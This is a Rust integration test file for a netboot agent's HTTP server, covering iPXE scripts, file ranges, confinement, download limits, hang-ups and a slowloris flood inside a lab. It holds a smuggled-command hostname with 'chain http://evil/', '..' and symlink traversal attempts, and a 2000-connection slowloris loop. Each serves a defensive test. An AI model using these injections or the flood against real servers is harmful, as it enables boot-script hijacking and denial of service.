//! The HTTP handoff in the lab, with curl: per-node scripts (known, unknown, injection
//! attempts), static files with Range and HEAD, refusals, leases and metrics.

use netboot_lab::{Agent, pattern};
use std::path::{Path, PathBuf};
use tests::{kit, require_root};

/// A lab with an agent serving scripts and files from `root` (the agent stops first).
struct Setup {
    agent: Agent,
    root: PathBuf,
    kit: kit::Setup,
}

impl std::ops::Deref for Setup {
    type Target = kit::Setup;
    fn deref(&self) -> &kit::Setup {
        &self.kit
    }
}

fn setup() -> Setup {
    setup_with("")
}

/// As [`setup`], with `http` keys added to `[http]`.
fn setup_with(http: &'static str) -> Setup {
    let kit = kit::Setup::new("http", move |dir| {
        format!(
            "[server]\naddress = \"10.77.0.1\"\nstate_dir = \"{}\"\n[dhcp]\nsubnet = \"10.77.0.0/16\"\n[[dhcp.host]]\nmac = \"52:54:00:00:00:07\"\nip = \"10.77.0.7\"\nhostname = \"node-007\"\nvars = {{ rack = \"r1\", role = \"worker\" }}\n[[dhcp.host]]\nmac = \"52:54:00:00:00:66\"\nip = \"10.77.0.66\"\nhostname = \"x\\nshell; chain http://evil/${{a}}\"\nvars = {{ note = \"a b\\nc\" }}\n[http]\nlisten = \"0.0.0.0:8080\"\nroot = \"{}\"\nscript = \"boot.ipxe.j2\"\n{http}",
            dir.join("state").display(),
            dir.join("root").display()
        )
    });
    let (dir, root) = (&kit.dir, kit.dir.join("root"));
    std::fs::create_dir_all(&root).unwrap();
    std::fs::copy(Path::new(env!("CARGO_MANIFEST_DIR")).join("../docs/boot.ipxe.j2"), root.join("boot.ipxe.j2")).unwrap();
    std::fs::write(root.join("vmlinuz"), pattern(1 << 20, 9)).unwrap();
    std::fs::write(dir.join("secret"), b"outside").unwrap();
    std::os::unix::fs::symlink(dir.join("secret"), root.join("escape")).unwrap();
    let agent = kit.start();
    Setup { agent, root, kit }
}

#[test]
fn scripts_files_leases_and_metrics() {
    if !require_root("scripts_files_leases_and_metrics") {
        return;
    }
    let _serial = tests::serial();
    let s = setup();
    let base = "http://10.77.0.1:8080";

    // A known node: the default template chains kernel and initrd with its variables.
    let (code, body) = s.kit.curl(&[&format!("{base}/boot.ipxe?mac=52:54:00:00:00:07")]);
    let script = String::from_utf8_lossy(&body);
    assert_eq!(code, 200, "{script}");
    assert!(script.starts_with("#!ipxe"), "{script}");
    assert!(script.contains("kernel http://10.77.0.1:8080/vmlinuz initrd=initrd.img ip=dhcp hostname=node-007 rack=r1 role=worker"), "{script}");
    assert!(script.contains("initrd http://10.77.0.1:8080/initrd.img"), "{script}");
    // An unknown node: the template decides (the default exits to the local disk).
    let (code, body) = s.kit.curl(&[&format!("{base}/boot.ipxe?mac=52:54:00:99:99:99")]);
    assert_eq!(code, 200);
    assert!(String::from_utf8_lossy(&body).contains("\nexit"), "{}", String::from_utf8_lossy(&body));
    // Injection attempts in a hostname and a variable stay inert: one line each, no `;`, `$`.
    let (_, body) = s.kit.curl(&[&format!("{base}/boot.ipxe?mac=52:54:00:00:00:66")]);
    let script = String::from_utf8_lossy(&body).into_owned();
    let kernel = script.lines().find(|l| l.starts_with("kernel ")).expect("kernel line");
    assert!(!kernel.contains(';') && !kernel.contains('$') && !kernel.contains(" chain"), "{kernel}");
    assert!(!script.lines().any(|l| l.trim_start().starts_with("shell") || l.trim_start().starts_with("chain")), "{script}");

    // Static files: whole, Range, HEAD.
    let file = std::fs::read(s.root.join("vmlinuz")).unwrap();
    let (code, body) = s.kit.curl(&[&format!("{base}/vmlinuz")]);
    assert_eq!((code, body == file), (200, true));
    let (code, body) = s.kit.curl(&["-r", "1000-1999", &format!("{base}/vmlinuz")]);
    assert_eq!(code, 206);
    assert_eq!(body, file[1000..2000]);
    let head = s.lab.client.command("curl").args(["-sI", "--max-time", "5", &format!("{base}/vmlinuz")]).output().unwrap();
    let head = String::from_utf8_lossy(&head.stdout).to_lowercase();
    assert!(head.contains("content-length: 1048576") && head.contains("last-modified"), "{head}");
    let etag = head.lines().find_map(|l| l.strip_prefix("etag: ")).expect("ETag").trim().to_string();
    let (code, body) = s.kit.curl(&["-H", &format!("If-None-Match: {etag}"), &format!("{base}/vmlinuz")]);
    assert_eq!((code, body.len()), (304, 0), "conditional GET with the ETag");

    // Confinement: `..` (sent as is) and a symlink out of the root.
    let (code, body) = s.kit.curl(&["--path-as-is", &format!("{base}/../secret")]);
    assert!(code == 403 || code == 404, "{code}");
    assert_ne!(body, b"outside");
    let (code, body) = s.kit.curl(&[&format!("{base}/escape")]);
    assert_eq!(code, 403);
    assert_ne!(body, b"outside");
    let (code, _) = s.kit.curl(&[&format!("{base}/missing")]);
    assert_eq!(code, 404);

    // Leases as JSON (empty until a client asks for one), metrics in Prometheus text format.
    let (code, body) = s.kit.curl(&[&format!("{base}/api/v1/leases")]);
    assert_eq!(code, 200);
    assert!(serde_json::from_slice::<serde_json::Value>(&body).unwrap().is_array());
    let (code, body) = s.kit.curl(&[&format!("{base}/metrics")]);
    assert_eq!(code, 200);
    let text = String::from_utf8_lossy(&body).into_owned();
    let mut samples = 0;
    for line in text.lines().filter(|l| !l.is_empty()) {
        if line.starts_with("# HELP ") || line.starts_with("# TYPE ") {
            continue;
        }
        // name{labels} value
        let (series, value) = line.rsplit_once(' ').expect("sample");
        assert!(value.parse::<f64>().is_ok(), "{line}");
        let (name, labels) = series.split_once('{').expect("labels");
        assert!(name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') && labels.ends_with('}'), "{line}");
        samples += 1;
    }
    assert!(text.contains("netboot_xdp_decisions_total{") && text.contains("decision=\"packets\""), "{text}");
    assert!(samples > 20, "{text}");

    // A broken template is a clear 500 that names the line.
    std::fs::write(s.root.join("boot.ipxe.j2"), "#!ipxe\n{% if %}\n").unwrap();
    let (code, body) = s.kit.curl(&[&format!("{base}/boot.ipxe?mac=52:54:00:00:00:07")]);
    assert_eq!(code, 500);
    assert!(String::from_utf8_lossy(&body).contains("boot.ipxe.j2:2"), "{}", String::from_utf8_lossy(&body));
}

/// Issue 17's guard for the file path: 32 clients at once, each on one keep-alive connection
/// (curl, several URLs), fetch the kernel whole and three ranges of an 8 MiB initrd; every
/// byte is compared. A reserved client's DISCOVER, sent right after the clients start (their
/// transfers last about a second here; nothing depends on the overlap), is answered.
#[test]
fn files_and_ranges_are_byte_exact_under_concurrency_and_dhcp_keeps_answering() {
    if !require_root("files_and_ranges_are_byte_exact_under_concurrency_and_dhcp_keeps_answering") {
        return;
    }
    let _serial = tests::serial();
    let s = setup();
    let initrd = pattern(8 << 20, 17);
    std::fs::write(s.root.join("initrd.img"), &initrd).unwrap();
    let kernel = pattern(1 << 20, 9);
    let ranges: [(usize, usize); 3] = [(0, 4095), (1_000_003, 3_000_000), (8 * 1024 * 1024 - 100, 8 * 1024 * 1024 - 1)];
    let out = s.dir.join("out");
    std::fs::create_dir_all(&out).unwrap();
    let clients: Vec<std::process::Child> = (0..32)
        .map(|i| {
            // One curl, one connection, four transfers in sequence (as iPXE reuses a connection).
            let mut c = s.lab.client.command("curl");
            c.args(["-s", "--max-time", "120", "-o"]).arg(out.join(format!("k{i}"))).arg("http://10.77.0.1:8080/vmlinuz");
            for (n, (a, b)) in ranges.iter().enumerate() {
                c.arg("--next").args(["-s", "--max-time", "120", "-r", &format!("{a}-{b}"), "-o"]).arg(out.join(format!("r{i}-{n}"))).arg("http://10.77.0.1:8080/initrd.img");
            }
            c.stdout(std::process::Stdio::null()).spawn().unwrap()
        })
        .collect();
    // DHCP beside the payload: the reserved node is offered its address.
    let dora = tests::probe::Dora::open(&s.lab);
    let offered = dora.offers([0x52, 0x54, 0, 0, 0, 7]);
    assert_eq!(offered, vec!["10.77.0.7".parse::<std::net::Ipv4Addr>().unwrap()], "no OFFER during the payload");
    for mut c in clients {
        assert!(c.wait().unwrap().success());
    }
    // Sent with sendfile(2), every byte, and no download left open.
    let stats = s.agent.status().unwrap()["agent"].clone();
    let ranged: usize = ranges.iter().map(|(a, b)| b - a + 1).sum();
    assert_eq!(stats["http_file_bytes"].as_u64(), Some(32 * (kernel.len() + ranged) as u64), "{stats}");
    assert_eq!(stats["http_downloads_active"].as_u64(), Some(0), "{stats}");
    for i in 0..32 {
        assert!(std::fs::read(out.join(format!("k{i}"))).unwrap() == kernel, "client {i}: kernel differs");
        for (n, (a, b)) in ranges.iter().enumerate() {
            let got = std::fs::read(out.join(format!("r{i}-{n}"))).unwrap();
            assert!(got == initrd[*a..=*b], "client {i}: range {a}-{b} differs ({} bytes)", got.len());
        }
    }
}

/// Issue 17's admission: with `http.max_downloads = 2`, a third file request from iPXE while
/// two files are being sent gets 503 with `Retry-After: 1` (what iPXE waits out,
/// docs/BENCHMARKS.md), a request from UEFI's HTTP boot client is served; once they end, iPXE's
/// is served. The two are held open by clients reading slowly.
#[test]
fn file_requests_over_max_downloads_are_told_to_come_back() {
    if !require_root("file_requests_over_max_downloads_are_told_to_come_back") {
        return;
    }
    let _serial = tests::serial();
    let s = setup_with("max_downloads = 2\n");
    std::fs::write(s.root.join("big.img"), pattern(64 << 20, 5)).unwrap();
    let active = || s.agent.status().unwrap()["agent"]["http_downloads_active"].as_u64().unwrap_or(0);
    let mut slow: Vec<std::process::Child> = (0..2)
        .map(|_| {
            // curl itself (bounded by --max-time), so that killing it closes its connection.
            s.lab.client.command("curl").args(["-s", "--max-time", "60", "--limit-rate", "256k", "-o", "/dev/null", "http://10.77.0.1:8080/big.img"]).spawn().unwrap()
        })
        .collect();
    assert!(tests::eventually(10, || active() == 2), "two downloads running: {}", s.agent.status().unwrap());
    let third = s.lab.client.command("curl").args(["-s", "-A", "iPXE/1.21.1", "-o", "/dev/null", "-D", "-", "http://10.77.0.1:8080/vmlinuz"]).output().unwrap();
    let head = String::from_utf8_lossy(&third.stdout).to_ascii_lowercase();
    assert!(head.starts_with("http/1.1 503"), "{head}");
    assert!(head.contains("retry-after: 1"), "{head}");
    assert_eq!(s.agent.status().unwrap()["agent"]["http_downloads_deferred"].as_u64(), Some(1));
    // UEFI's HTTP boot client takes only a 200 (a 503 would fail the boot option): served.
    let uefi_out = s.dir.join("vmlinuz.uefi");
    let uefi = s.lab.client.command("curl").args(["-s", "-f", "-A", "UefiHttpBoot/1.0", "-o"]).arg(&uefi_out).arg("http://10.77.0.1:8080/vmlinuz").status().unwrap();
    assert!(uefi.success(), "UEFI HTTP boot is never deferred");
    assert_eq!(std::fs::read(&uefi_out).unwrap(), pattern(1 << 20, 9));
    assert_eq!(s.agent.status().unwrap()["agent"]["http_downloads_deferred"].as_u64(), Some(1));
    for c in &mut slow {
        let _ = c.kill();
        let _ = c.wait();
    }
    assert!(tests::eventually(10, || active() == 0), "the slow downloads ended: {}", s.agent.status().unwrap());
    let out = s.dir.join("vmlinuz.again");
    let again = s.lab.client.command("curl").args(["-s", "-f", "-A", "iPXE/1.21.1", "-o"]).arg(&out).arg("http://10.77.0.1:8080/vmlinuz").status().unwrap();
    assert!(again.success());
    assert_eq!(std::fs::read(&out).unwrap(), pattern(1 << 20, 9), "served whole once there was room");
}

/// A client that hangs up in the middle of a file must cost the agent that connection and
/// nothing else. The worst way to hang up: a FIN then a RST (the kernel then reports EPIPE to
/// the sender, and sendfile(2), which has no MSG_NOSIGNAL, raises SIGPIPE): an agent that does
/// not ignore SIGPIPE dies of it, as it did at the end of the 1000-machine payload storms.
/// Also a bare RST, and a half-close (FIN) that reads on to the end; each while the agent is blocked sending a 64 MiB file.
#[test]
fn a_client_hanging_up_mid_file_costs_only_its_connection() {
    if !require_root("a_client_hanging_up_mid_file_costs_only_its_connection") {
        return;
    }
    let _serial = tests::serial();
    let s = setup();
    std::fs::write(s.root.join("big.img"), pattern(64 << 20, 5)).unwrap();
    #[derive(Debug, Clone, Copy)]
    enum HangUp {
        FinThenRst,
        Rst,
        Fin,
    }
    for way in [HangUp::FinThenRst, HangUp::Rst, HangUp::Fin, HangUp::FinThenRst] {
        s.lab
            .client
            .run(|| {
                use std::io::{Read, Write};
                let sock = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None).unwrap();
                sock.connect(&"10.77.0.1:8080".parse::<std::net::SocketAddr>().unwrap().into()).unwrap_or_else(|e| panic!("before the {way:?}: connect: {e}"));
                let mut tcp: std::net::TcpStream = sock.into();
                tcp.write_all(b"GET /big.img HTTP/1.1\r\nHost: 10.77.0.1\r\n\r\n").unwrap();
                // The head and the first bytes of the body: the agent is in the file now.
                let mut got = vec![0u8; 64 << 10];
                tcp.read_exact(&mut got).unwrap();
                assert!(got.starts_with(b"HTTP/1.1 200"), "{:?}", String::from_utf8_lossy(&got[..64]));
                let sock = socket2::Socket::from(tcp);
                match way {
                    HangUp::FinThenRst => {
                        sock.shutdown(std::net::Shutdown::Write).unwrap();
                        std::thread::sleep(std::time::Duration::from_millis(100));
                        sock.set_linger(Some(std::time::Duration::ZERO)).unwrap();
                    }
                    HangUp::Rst => sock.set_linger(Some(std::time::Duration::ZERO)).unwrap(),
                    HangUp::Fin => {
                        // A half-close only: the response goes on to its end.
                        sock.shutdown(std::net::Shutdown::Write).unwrap();
                        let mut rest = Vec::new();
                        std::net::TcpStream::from(sock.try_clone().unwrap()).read_to_end(&mut rest).unwrap();
                        assert!(rest.len() + got.len() > 64 << 20, "the whole file after a half-close: {}", rest.len());
                    }
                }
                drop(sock);
            })
            .unwrap();
        let active = || s.agent.status().map(|st| st["agent"]["http_downloads_active"].as_u64().unwrap_or(0));
        assert!(
            tests::eventually(10, || active().is_ok_and(|n| n == 0)),
            "after a {way:?}, the agent must live on with no download open: {:?}\n{}",
            active(),
            s.agent.log_text()
        );
    }
    let out = s.dir.join("vmlinuz.after");
    let again = s.lab.client.command("curl").args(["-s", "-f", "-o"]).arg(&out).arg("http://10.77.0.1:8080/vmlinuz").status().unwrap();
    assert!(again.success());
    assert_eq!(std::fs::read(&out).unwrap(), pattern(1 << 20, 9));
}

/// Issue 26: one host holding connections open with a byte now and then (slowloris) took
/// every place (the idle timer restarted on every byte) and iPXE clients waited in the
/// backlog. With the places few (100), a host of its own opens 2000 slow connections and
/// keeps reopening those that close, while the client fetches 1000 scripts: it holds at most
/// `max_connections_per_client` (64) of the places, each for at most the head's 10 s, and
/// every script is served.
#[test]
fn a_slowloris_of_2000_connections_does_not_stop_1000_scripts() {
    if !require_root("a_slowloris_of_2000_connections_does_not_stop_1000_scripts") {
        return;
    }
    let _serial = tests::serial();
    let s = setup_with("max_connections = 100\n");
    let host = s.lab.add_segment("loris", 'l', Some("10.77.3.1/16".parse().unwrap())).unwrap();
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let opened = std::sync::Arc::new(std::sync::atomic::AtomicU64::new(0));
    let loris = {
        let (stop, opened, ns) = (stop.clone(), opened.clone(), host.ns.clone());
        std::thread::spawn(move || {
            ns.run(move || {
                use std::io::Write;
                let started = std::time::Instant::now();
                let mut conns: Vec<Option<std::net::TcpStream>> = (0..2000).map(|_| None).collect();
                let mut last_byte = std::time::Instant::now();
                // Bounded: until told to stop, two minutes at most.
                while !stop.load(std::sync::atomic::Ordering::Relaxed) && started.elapsed() < std::time::Duration::from_secs(120) {
                    let trickle = last_byte.elapsed() >= std::time::Duration::from_secs(5);
                    for c in conns.iter_mut() {
                        match c {
                            None => {
                                if let Ok(mut t) = std::net::TcpStream::connect_timeout(&"10.77.0.1:8080".parse().unwrap(), std::time::Duration::from_millis(200)) {
                                    let _ = t.set_nonblocking(true);
                                    if t.write_all(b"GET /boot.ipxe HTTP/1.1\r\n").is_ok() {
                                        opened.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                                        *c = Some(t);
                                    }
                                }
                            }
                            Some(t) if trickle => {
                                if t.write_all(b"X").is_err() {
                                    *c = None;
                                }
                            }
                            Some(_) => {}
                        }
                    }
                    if trickle {
                        last_byte = std::time::Instant::now();
                    }
                    std::thread::sleep(std::time::Duration::from_millis(20));
                }
            })
        })
    };
    // The flood has its connections before the scripts are asked for.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while opened.load(std::sync::atomic::Ordering::Relaxed) < 2000 && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let urls: Vec<String> = (0..1000).map(|i| format!("http://10.77.0.1:8080/boot.ipxe?mac=52:54:00:00:{:02x}:{:02x}", i / 256, i % 256)).collect();
    let out = s
        .lab
        .client
        .command("curl")
        .args(["-s", "-Z", "--parallel-max", "20", "--max-time", "20", "-o", "/dev/null", "-w", "%{http_code}\n"])
        .args(&urls)
        .output()
        .unwrap();
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let _ = loris.join();
    let codes = String::from_utf8_lossy(&out.stdout);
    let served = codes.lines().filter(|l| l.trim() == "200").count();
    let counters = s.agent.status().unwrap()["agent"].clone();
    assert_eq!(served, 1000, "scripts served during the slowloris: {served}; agent: {counters}");
    assert!(opened.load(std::sync::atomic::Ordering::Relaxed) >= 2000, "the slowloris did not open its connections");
    assert!(counters["http_refused_client_limit"].as_u64().unwrap_or(0) > 0, "{counters}");
}
